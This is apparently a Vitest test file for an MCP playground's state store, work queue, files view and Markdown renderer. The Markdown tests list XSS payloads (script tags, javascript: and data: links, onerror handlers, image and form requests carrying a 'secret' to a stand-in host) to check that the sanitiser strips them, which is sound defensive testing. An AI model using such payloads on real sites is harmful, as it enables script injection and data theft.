/** The state of the page: what events and display hints change, and work of which only the last counts. */
import type { Remote } from "comlink";
import { IndexedDbArtifactStore } from "mcp-sluice/browser";
import { UserStorage } from "mcp-sluice/files";
import { beforeAll, describe, expect, test, vi } from "vitest";
import { Actions, Latest } from "../../../../web/playground/app/actions.js";
import { formatMarkdown } from "../../../../web/ui/markdown.js";
import { openIn, openInPreview } from "../../../../web/playground/app/display.js";
import { changeBy, type Preview, type ShownCall, type State, Store } from "../../../../web/playground/app/state.js";
import { FilesView } from "../../../../web/playground/app/views/files-view.js";
import type { Engine, EngineEvent, ShownServer } from "../../../../web/playground/engine/messages.js";
import { PlaygroundEngine } from "../../../../web/playground/engine/playground-engine.js";
import { VISITOR } from "../../../../web/playground/engine/stores.js";
import { violations } from "../../ui/support.js";

describe("the state", () => {
  const NOW = 1_750_000_000_000;
  const { state: START } = new Store();
  const server = (name: string, status: ShownServer["status"]): ShownServer => ({
    name,
    kind: "http",
    status,
    tools: [],
  });
  const call = (id: string): ShownCall => ({
    id,
    server: "demo",
    tool: "demo.slow_import",
    args: {},
    timeout: 30,
    title: "demo.slow_import",
    state: "running",
    startedAt: NOW,
  });

  /** The state after events, one after the other. */
  function after(events: readonly EngineEvent[], before: Partial<State> = {}): State {
    return events.reduce<State>((state, event) => ({ ...state, ...changeBy(state, event, NOW) }), {
      ...START,
      ...before,
    });
  }

  describe("servers", () => {
    test("are listed in the order in which they came, each once", () => {
      const { servers } = after([
        { kind: "server", server: server("a", "connecting") },
        { kind: "server", server: server("b", "ready") },
        { kind: "server", server: server("a", "failed") },
      ]);
      expect(servers).toEqual([server("a", "failed"), server("b", "ready")]);
    });

    test("that are left are gone; where one was shown, the demo is", () => {
      const servers = [server("a", "failed"), server("b", "ready")];
      const left = after([{ kind: "gone", server: "b" }], { servers, server: "b" });
      expect(left).toMatchObject({ servers: [server("a", "failed")], server: "demo" });
      expect(after([{ kind: "gone", server: "a" }], { servers, server: "b" }).server).toBe("b");
    });
  });

  describe("calls", () => {
    test("are told how far they are, each for itself", () => {
      const progress = { progress: 1, total: 2 };
      const { calls } = after([{ kind: "progress", call: "y", progress }], { calls: [call("x"), call("y")] });
      expect(calls).toEqual([call("x"), { ...call("y"), progress }]);
    });

    test("and everything that was preview at are gone with the session", () => {
      const artifact = { id: "demo_1" };
      const preview = { artifact, shelf: "session", isWide: false } as const;
      const ended = after([{ kind: "ended" }], { calls: [call("x")], call: "x", preview });
      expect(ended).toMatchObject({ calls: [], call: undefined, preview: undefined });
    });

    test("wait for a person until they are answered", () => {
      const pause = { id: "p", server: "demo", reason: "external_event", payload: {} };
      expect(after([{ kind: "paused", pause }]).pauses).toEqual([pause]);
      expect(
        after([
          { kind: "paused", pause },
          { kind: "resumed", pause: "p" },
        ]).pauses,
      ).toEqual([]);
    });
  });

  test("resources that changed are noted by server and URI, each once", () => {
    const event: EngineEvent = { kind: "resource_updated", server: "demo", uri: "note://today" };
    expect([...after([event, event]).updates]).toEqual(["demo note://today"]);
  });

  test("lists that changed are counted", () => {
    expect(after([{ kind: "resources_changed", server: "demo" }]).changes).toBe(START.changes + 1);
  });

  test("the log begins with what was told last, and forgets what was told long ago", () => {
    const lines = Array.from({ length: 501 }, (_, i): EngineEvent => {
      return { kind: "log", level: "info", server: "demo", text: String(i) };
    });
    const { log } = after(lines);
    expect(log).toHaveLength(500);
    expect(log[0]).toEqual({ at: NOW, level: "info", server: "demo", text: "500" });
    expect(log.at(-1)?.text).toBe("1");
  });

  const file = (id: string): { id: string; source: Record<string, unknown> } => ({ id, source: { user_file: {} } });
  const ids = (preview: Preview): string[] => openIn(preview).map(({ artifact }) => artifact.id);
  const opened = openInPreview(undefined, file("1"), undefined);

  test("a file is opened without the focus, and lies where it says", () => {
    expect(opened).toMatchObject({ shelf: "files", isByTool: true, isWide: false });
    expect(openInPreview(undefined, { id: "2" }, "replace").shelf).toBe("session");
  });

  test("another one takes its place, or stands behind it, or beside the result", () => {
    expect(ids(openInPreview(opened, file("2"), "replace"))).toEqual(["2"]);
    expect(ids(openInPreview(opened, file("2"), undefined))).toEqual(["2"]);
    expect(ids(openInPreview(opened, file("2"), "append"))).toEqual(["1", "2"]);
    expect(openInPreview(opened, file("2"), "split")).toMatchObject({ isHalf: true });
  });

  test("four are open at most, and none twice", () => {
    let preview = opened;
    for (const id of ["2", "3", "2", "4", "5"]) preview = openInPreview(preview, file(id), "append");
    expect(ids(preview)).toEqual(["3", "2", "4", "5"]);
  });

  /** Work that ends when it is told to. */
  class Bench {
    readonly begun: string[] = [];
    readonly #ends: ((error?: Error) => void)[] = [];
    readonly work = (input: string): Promise<string> =>
      new Promise((resolve, reject) => {
        this.begun.push(input);
        this.#ends.push((error) => (error === undefined ? resolve(`${input} done`) : reject(error)));
      });

    end(error?: Error): void {
      this.#ends.shift()?.(error);
    }
  }

  test("what comes alone is done", async () => {
    const latest = new Latest(async (input: number) => input * 2);
    expect(await latest.run(1)).toBe(2);
    expect(await latest.run(2)).toBe(4);
  });

  test("of those that come while one is under way, the last is done, when that has ended", async () => {
    const bench = new Bench();
    const latest = new Latest(bench.work);
    const first = latest.run("a");
    await expect.poll(() => bench.begun).toEqual(["a"]);
    const others = ["b", "c", "d"].map((input) => latest.run(input));
    expect(bench.begun).toEqual(["a"]);
    bench.end();
    expect(await first).toBe("a done");
    await expect.poll(() => bench.begun).toEqual(["a", "d"]);
    bench.end();
    expect(await Promise.all(others)).toEqual(["d done", "d done", "d done"]);
    expect(bench.begun).toEqual(["a", "d"]);
  });

  test("of those that come at once, only the last is done", async () => {
    const begun: string[] = [];
    const latest = new Latest(async (input: string) => {
      begun.push(input);
    });
    await Promise.all(["a", "b", "c"].map((input) => latest.run(input)));
    expect(begun).toEqual(["c"]);
  });

  test("what fails is told to who asked, and holds nobody else up", async () => {
    const bench = new Bench();
    const latest = new Latest(bench.work);
    const first = latest.run("a");
    await expect.poll(() => bench.begun).toEqual(["a"]);
    const next = latest.run("b");
    bench.end(new Error("no"));
    await expect(first).rejects.toThrow("no");
    await expect.poll(() => bench.begun).toEqual(["a", "b"]);
    bench.end();
    expect(await next).toBe("b done");
  });
});

/** <playground-files> over a real engine. */
describe("the view of files", () => {
  const EXPIRES = Date.now() + 72 * 3_600_000;
  const HOSTILE = "Sign\u202e it <b>now</b>";

  const engine = new PlaygroundEngine();
  const store = new Store();
  // In a worker it is asked through Comlink, which has the same methods.
  const actions = new Actions(engine as unknown as Remote<Engine>, store);
  const view = new FilesView();
  const text = (): string => view.shadowRoot?.textContent.replaceAll(/\s+/g, " ") ?? "";

  beforeAll(async () => {
    const started = await engine.start({ keys: {}, config: {}, callback: "" });
    if (!started.ok) throw new Error(started.problem.message);
    const files = new UserStorage(new IndexedDbArtifactStore({ name: "sluice-files", retention: null }), VISITOR);
    await files.clear();
    const draft = {
      reason: "needs_editing",
      next_actions: ["Edit the greeting", HOSTILE],
      expires_at: EXPIRES,
    } as const;
    await files.put("letter.docx", "Dear all", { origin: "deferred", category: "draft", draft });
    await files.put("plain.txt", "Nothing else is known.");
    Object.assign(view, { store, actions });
    document.body.append(view);
  });

  test("a draft stands among the files with why it is one, what can be done next, and when it goes", async () => {
    const lines = (): HTMLElement[] => [...(view.shadowRoot?.querySelectorAll<HTMLElement>(".file") ?? [])];
    await vi.waitFor(() => expect(lines()).toHaveLength(2));
    lines()
      .find(({ textContent }) => textContent.includes("letter.docx"))
      ?.click();
    await vi.waitFor(() => expect(text()).toContain("A draft: it needs editing."));
    expect(text()).toContain(`It is deleted on ${new Date(EXPIRES).toLocaleString()}.`);
    const next = [...(view.shadowRoot?.querySelectorAll(".draft li") ?? [])].map((item) => item.textContent.trim());
    expect(next).toEqual(["Edit the greeting", "Sign\ufffd it <b>now</b>"]);
    expect(view.shadowRoot?.querySelectorAll(".draft")).toHaveLength(1);
  });

  test("drafts alone are shown where they are wanted", async () => {
    const origin = view.shadowRoot?.querySelector<HTMLSelectElement>("select[aria-label=Origin]");
    if (!origin) throw new Error("There is no choice.");
    origin.value = "deferred";
    origin.dispatchEvent(new Event("change"));
    await vi.waitFor(() => expect(view.shadowRoot?.querySelectorAll(".file")).toHaveLength(1));
    expect(text()).toContain("1 of 2 files");
  });

  test("nothing of it is hard to use, in either theme", async () => {
    expect(await violations(view)).toEqual([]);
  });
});

describe("Markdown", () => {
  function html(text: string): string {
    const element = document.createElement("div");
    element.append(formatMarkdown(text));
    return element.innerHTML.trim();
  }

  describe("what a model writes", () => {
    test("has structure: lists, tables, code, and links that open elsewhere", () => {
      expect(html("Two **things**:\n- `a`\n- b")).toBe(
        "<p>Two <strong>things</strong>:</p>\n<ul>\n<li><code>a</code></li>\n<li>b</li>\n</ul>",
      );
      expect(html("|a|b|\n|-|-|\n|1|2|")).toMatch(/^<table tabindex="0">\s*<thead>\s*<tr>\s*<th>a<\/th>/);
      expect(html("[here](https://shop.test/a)")).toBe(
        '<p><a href="https://shop.test/a" target="_blank" rel="noopener noreferrer">here</a></p>',
      );
      expect(html("one\ntwo")).toBe("<p>one<br>two</p>");
    });

    test.each([
      "<script>alert(1)</script>",
      '<img src="https://elsewhere.test/?secret">',
      "![](https://elsewhere.test/?secret)",
      '<b onclick="alert(1)" style="position:fixed">x</b>',
      "[x](javascript:alert(1))",
      "[x](data:text/html,<script>alert(1)</script>)",
      '<iframe src="https://elsewhere.test"></iframe>',
      '<form action="https://elsewhere.test"><input name="key"></form>',
      "<svg><a href='javascript:alert(1)'>x</a></svg>",
      "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
      "<link rel=stylesheet href=https://elsewhere.test>",
    ])("is no page's HTML, and does no harm: %s", (text) => {
      const fragment = formatMarkdown(text);
      const elements = [...fragment.querySelectorAll("*")];
      expect(elements.filter((element) => !element.matches("p, a, br, strong, em"))).toEqual([]);
      const attributes = elements.flatMap((element) => [...element.attributes].map(({ name }) => name));
      expect(attributes.filter((name) => !["href", "target", "rel"].includes(name))).toEqual([]);
      const links = [...fragment.querySelectorAll("a")].map(({ href }) => href);
      expect(links.filter((href) => !/^https?:/.test(href))).toEqual([]);
    });

    test("of HTML it is shown as it is", () => {
      expect(formatMarkdown("<b>bold</b> & <i>").textContent.trim()).toBe("<b>bold</b> & <i>");
    });

    test.each([
      ["too long", "**a** ".repeat(2000)],
      ["nested too deep", "> ".repeat(4000)],
      ["a table of too many cells", `${"|a".repeat(1000)}|\n${"|-".repeat(1000)}|\n${"x\n".repeat(1000)}`],
    ])("is left as it is where it is %s", (_, text) => {
      const fragment = formatMarkdown(text);
      expect(fragment.querySelectorAll("*").length).toBeLessThan(5);
      expect(fragment.textContent.slice(0, 8)).toBe(text.slice(0, 8));
    });

    test("has few elements, whatever it is", () => {
      for (const piece of [
        "[",
        "*a ",
        "`",
        "- ",
        "|a",
        "<a ",
        "![](",
        "\\",
        "_a_*b*",
        "_a",
        "a     b",
        "1. ",
        "# ",
        "~~",
      ]) {
        const fragment = formatMarkdown(piece.repeat(Math.floor(10_000 / piece.length)));
        expect(fragment.querySelectorAll("*").length).toBeLessThan(10_000);
      }
    });
  });
});
